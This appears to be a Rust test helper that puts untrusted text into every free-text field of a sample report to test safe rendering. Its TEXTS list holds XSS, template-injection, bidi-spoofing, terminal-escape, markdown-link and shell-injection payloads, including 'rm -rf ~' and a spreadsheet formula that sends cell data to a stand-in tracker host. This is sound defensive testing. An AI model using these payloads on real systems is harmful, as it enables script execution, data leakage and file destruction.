//! Puts a stranger's text into every string of a case.
#![allow(dead_code, reason = "each test uses a part of it")]

use std::sync::OnceLock;

use candor_report::View;
use serde_json::Value;

use crate::common::case;

/// Every kind of place that holds free text, as a JSON pointer with `*` for positions.
pub(crate) fn places() -> &'static [String] {
    static PLACES: OnceLock<Vec<String>> = OnceLock::new();
    PLACES.get_or_init(find_places)
}

fn find_places() -> Vec<String> {
    let clean = serde_json::to_value(case()).expect("is written");
    let mut all = Vec::new();
    gather(&clean, String::new(), &mut all);
    all.sort();
    all.dedup();
    // A place that refuses free text holds one of our own words.
    all.retain(|place| try_with(&clean, place, "free text").is_some());
    all
}

fn gather(value: &Value, at: String, all: &mut Vec<String>) {
    match value {
        Value::String(_) => all.push(at),
        Value::Array(items) => items.iter().for_each(|item| gather(item, format!("{at}/*"), all)),
        Value::Object(fields) => {
            fields.iter().for_each(|(name, item)| gather(item, format!("{at}/{name}"), all));
        }
        _ => {}
    }
}

fn try_with(clean: &Value, place: &str, text: &str) -> Option<View> {
    let mut value = clean.clone();
    let steps: Vec<&str> = place.split('/').skip(1).collect();
    put(&mut value, &steps, text);
    serde_json::from_value(value).ok()
}

/// Puts a text into all places of a kind.
fn put(value: &mut Value, steps: &[&str], text: &str) {
    let Some((step, rest)) = steps.split_first() else {
        if value.is_string() {
            *value = Value::String(text.to_owned());
        }
        return;
    };
    match value {
        Value::Array(items) if *step == "*" => items.iter_mut().for_each(|i| put(i, rest, text)),
        Value::Object(fields) => {
            if let Some(inner) = fields.get_mut(*step) {
                put(inner, rest, text);
            }
        }
        _ => {}
    }
}

/// The case with this text in every free place, names of settings included. Ids that tie rows
/// together keep doing so: all become the same text.
pub(crate) fn everywhere(text: &str) -> View {
    let mut value = serde_json::to_value(case()).expect("is written");
    for place in places() {
        let steps: Vec<&str> = place.split('/').skip(1).collect();
        put(&mut value, &steps, text);
    }
    let mut view: View = serde_json::from_value(value).expect("every place took it");
    for run in &mut view.runs {
        run.arm.0.insert(text.to_owned(), text.to_owned());
        run.environment.insert(text.to_owned(), text.to_owned());
        run.digests.insert(text.to_owned(), text.to_owned());
    }
    for finding in &mut view.findings {
        finding.seen.arm.0.insert(text.to_owned(), text.to_owned());
        finding.derivation.push(text.to_owned());
    }
    let events = view.events.values().flatten().cloned().collect();
    view.events.insert(text.to_owned(), events);
    view
}

/// The case with this text in every free place but the ids, so that rows still find each other and
/// what they open to is rendered.
pub(crate) fn beside_ids(text: &str) -> View {
    const IDS: [&str; 12] = [
        "/exchange",
        "/finding",
        "/identifier",
        "/digest",
        "/run",
        "/example",
        "/a",
        "/b",
        "/findings/*",
        "/runs/*",
        "/seed",
        "/id",
    ];
    let mut value = serde_json::to_value(case()).expect("is written");
    for place in places().iter().filter(|place| !IDS.iter().any(|id| place.ends_with(id))) {
        let steps: Vec<&str> = place.split('/').skip(1).collect();
        put(&mut value, &steps, text);
    }
    serde_json::from_value(value).expect("every place took it")
}

/// The case with this text in one kind of place, once.
pub(crate) fn at(place: &str, text: &str) -> View {
    let mut value = serde_json::to_value(case()).expect("is written");
    let steps: Vec<&str> = place.split('/').skip(1).collect();
    put_once(&mut value, &steps, text);
    serde_json::from_value(value).expect("the place took it")
}

fn put_once(value: &mut Value, steps: &[&str], text: &str) -> bool {
    let Some((step, rest)) = steps.split_first() else {
        let free = value.is_string();
        if free {
            *value = Value::String(text.to_owned());
        }
        return free;
    };
    match value {
        Value::Array(items) if *step == "*" => items.iter_mut().any(|i| put_once(i, rest, text)),
        Value::Object(fields) => fields.get_mut(*step).is_some_and(|i| put_once(i, rest, text)),
        _ => false,
    }
}

/// What strangers send to be read by the wrong reader.
pub(crate) const TEXTS: [&str; 9] = [
    "</script><script>window.pwned=1</script><img src=x onerror=\"window.pwned=1\"><svg onload=window.pwned=1>",
    "\"><a href='javascript:window.pwned=1' style='position:fixed' x=\"",
    "--><!--]]></style></title><iframe src=//t.tracker.test/>",
    "{{constructor.constructor('window.pwned=1')()}} ${7*7} <%= 7*7 %> {% raw %}",
    "\u{202e}gpj.exe\u{2066}\u{200b}\u{feff}\u{2028}\u{e0041}",
    "\u{1b}[31mred\u{1b}]0;title\u{7}\u{9b}2J\u{8}\r\n\u{0}\t",
    "=HYPERLINK(\"http://t.tracker.test/\"&A1,\"x\")",
    "[x](javascript:alert(1)) ![p](http://t.tracker.test/p.png) `code` ```` @someone | # | www.tracker.test",
    "'; rm -rf ~ #$(id)`id`\u{fffd}\u{fffe}",
];
